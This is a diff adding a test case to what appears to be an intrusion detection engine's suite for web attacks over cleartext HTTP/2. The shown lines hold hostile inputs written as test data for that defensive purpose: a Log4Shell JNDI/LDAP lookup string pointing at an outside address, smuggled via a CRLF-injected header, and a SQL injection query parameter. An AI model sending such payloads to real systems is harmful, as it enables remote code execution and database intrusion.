@@ -517,6 +517,13 @@ describe('web attacks over HTTP/2 in cleartext (h2c)', () => {
     const hidden = Buffer.concat([Buffer.from([0x82, 0x84, 0x40, 1]), Buffer.from('x'), Buffer.from([8]), Buffer.from('a\r\n\r\nb: '), Buffer.from([0x40, 5]), Buffer.from('x-api'), Buffer.from([29]), Buffer.from('${jndi:ldap://198.51.100.7/a}')]);
     const crlf = new Conn({ t0: T0 }).handshake().send(Buffer.concat([PREFACE, frame(1, 0x5, 1, hidden)]));
     assert.deepEqual(seen(run(crlf.close().frames).alerts), [[LOG4SHELL, 4, 'header', 'x-api', CLIENT]]);
+    // A dynamic table of 8 KB is the client's to use only once the server's SETTINGS allow it.
+    const get8k = Buffer.concat([Buffer.from([0x3f, 0xe1, 0x3f, 0x82, 0x44, 17]), Buffer.from('/?id=1+OR+1%3D1--')]);
+    const serverSettings = frame(4, 0, 0, Buffer.from([0, 1, 0, 0, 0x20, 0]));
+    const allowed = new Conn({ t0: T0 }).handshake().send(Buffer.concat([PREFACE, frame(4, 0, 0, Buffer.alloc(0))])).serverAck().reply(serverSettings).send(frame(1, 0x5, 1, get8k));
+    const unallowed = new Conn({ t0: T0 }).handshake().send(Buffer.concat([PREFACE, frame(4, 0, 0, Buffer.alloc(0))])).send(frame(1, 0x5, 1, get8k));
+    assert.deepEqual(seen(run(allowed.close().frames).alerts), [[SQLI, 7, 'query', 'id', CLIENT]]);
+    assert.equal(run(unallowed.close().frames).engine.http.stats.http2_errors, 1);
     // Index 64 is in no table: the block cannot be read, nor can anything after it.
     const bad = new Conn({ t0: T0 }).handshake().send(Buffer.concat([PREFACE, frame(1, 0x5, 1, Buffer.from([0xc0]))])).send(frame(1, 0x5, 3, block));
     const out2 = run(bad.close().frames);
